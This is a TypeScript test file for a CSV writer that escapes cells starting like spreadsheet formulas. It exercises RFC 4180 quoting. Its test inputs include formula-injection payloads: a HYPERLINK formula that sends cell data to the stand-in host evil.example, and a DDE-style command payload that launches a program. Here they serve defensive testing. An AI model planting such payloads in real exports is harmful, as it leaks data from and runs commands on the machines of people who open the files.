import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv.ts';

describe('the CSV writer', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"open")', `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
    ['+1+2', "'+1+2"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', `"'\r=1+2"`],
    ['-12.50', "'-12.50"],
  ])('neutralizes text that starts like a formula: %j', (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it('leaves other text as it is, quoting it per RFC 4180 when it must', () => {
    expect(csvField('example.com')).toBe('example.com');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField("it's")).toBe("it's");
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
  });

  it('writes numbers and flags the code computed as they are, a negative number too', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(1_099_511_627_776)).toBe('1099511627776');
    expect(csvField(true)).toBe('true');
    expect(() => csvField(Number.NaN)).toThrow('a CSV number must be finite, not NaN');
  });

  it('writes a header row and rows, each line ending CRLF', () => {
    expect(
      toCsv(
        ['host', 'bytes'],
        [
          ['=1+2', 10],
          ['example.com', -3],
        ],
      ),
    ).toBe("host,bytes\r\n'=1+2,10\r\nexample.com,-3\r\n");
  });
});
